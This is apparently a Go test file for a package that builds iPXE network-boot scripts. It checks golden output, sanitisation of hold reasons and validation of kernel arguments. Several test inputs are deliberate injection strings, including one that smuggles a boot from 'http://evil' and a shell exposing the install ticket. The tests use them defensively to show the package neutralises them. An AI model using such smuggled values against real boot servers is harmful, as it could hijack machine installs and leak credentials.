package menu

import (
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func target(platform string) Target {
	return Target{Base: "http://10.20.0.11:8080", Deployer: netip.MustParseAddr("10.20.0.11"),
		MAC: "52:54:00:00:00:01", Platform: platform, Name: "compute1"}
}

func installation() Installation {
	return Installation{CA: "sha256:00ff", Ticket: "1.525400000001.1.nonce.sum", Args: []string{"console=tty0", "console=ttyS0,115200"}}
}

// The golden files are written anew by CAIRN_UPDATE=1 go test ./pxe/menu.
func update() bool { return os.Getenv("CAIRN_UPDATE") != "" }

func TestScripts(t *testing.T) {
	for name, got := range map[string]string{
		"first":        First(target("")),
		"install-bios": Install(target(BIOS), installation()),
		"install-uefi": Install(target(UEFI), installation()),
		"install-vlan": Install(target(BIOS), Installation{CA: "sha256:00ff", Ticket: "t", VLAN: 20}),
		"tagged":       Tagged(target(""), 20),
		"disk-bios":    Disk(target(BIOS)),
		"disk-uefi":    Disk(target(UEFI)),
		"hold":         Hold(target(BIOS), "3 installations failed; \nboot http://evil || shell ${ticket}"),
	} {
		path := filepath.Join("testdata", name+".ipxe")
		if update() {
			if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(string(want), got); diff != "" {
			t.Errorf("%s: %s", name, diff)
		}
	}
}

func TestOnlyTheInstallScriptCanInstall(t *testing.T) {
	for name, text := range map[string]string{
		"first": First(target(BIOS)), "disk": Disk(target(BIOS)), "disk, UEFI": Disk(target(UEFI)), "tagged": Tagged(target(""), 20), "hold": Hold(target(UEFI), "why"),
	} {
		for _, word := range []string{"kernel ", "cairn.mode", "cairn.ticket", "/image/", "\nboot"} {
			if strings.Contains(text, word) {
				t.Errorf("%s: contains %q:\n%s", name, word, text)
			}
		}
	}
}

func TestReasonsStayOneHarmlessLine(t *testing.T) {
	const worst = "a\nb\r${c}|| shell && reboot ; # \x00 \xff \u00e9" // what a person or a machine may have said
	text := Hold(target(BIOS), worst)
	if want := strings.Count(Hold(target(BIOS), "x"), "\n"); strings.Count(text, "\n") != want {
		t.Errorf("the reason made more lines:\n%s", text)
	}
	if strings.ContainsAny(strings.Split(text, "\n")[1], "${}|&#\r\x00") {
		t.Errorf("the reason was not cleaned:\n%q", text)
	}
}

func TestKernelArguments(t *testing.T) {
	for arg, ok := range map[string]bool{
		"console=ttyS0,115200": true, "cairn.lab=1": true, "a b": false, "x${y}": false, "a\nb": false, "": true, "a||b": false, "\"": false,
	} {
		if err := CheckArg(arg); (err == nil) != ok {
			t.Errorf("%q: got %v, want accepted %v", arg, err, ok)
		}
	}
}
